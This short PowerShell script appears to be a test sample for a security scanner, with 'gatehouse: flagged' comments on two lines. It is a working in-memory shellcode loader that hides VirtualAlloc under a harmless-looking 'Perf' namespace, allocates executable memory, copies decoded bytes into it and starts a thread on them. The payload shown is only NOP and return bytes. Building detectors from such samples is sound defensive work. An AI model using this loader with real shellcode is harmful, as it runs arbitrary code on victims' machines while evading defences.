Add-Type -TypeDefinition @"
using System;
using System.Runtime.InteropServices;
namespace Perf {
  public static class Native {
    [DllImport("kernel32.dll", EntryPoint="VirtualAlloc")]
    public static extern IntPtr Reserve(IntPtr a, uint b, uint c, uint d);
    [DllImport("kernel32.dll")] public static extern IntPtr CreateThread(IntPtr a, uint b, IntPtr c, IntPtr d, uint e, IntPtr f);
  }
}
"@
$b = [Convert]::FromBase64String("kJCQkJCQkJDDkJCQkJCQkMM=")
$p = [Perf.Native]::Reserve([IntPtr]::Zero, $b.Length, 0x3000, 0x40) # gatehouse: flagged
[System.Runtime.InteropServices.Marshal]::Copy($b, 0, $p, $b.Length) # gatehouse: flagged
[Perf.Native]::CreateThread(0,0,$p,0,0,0)
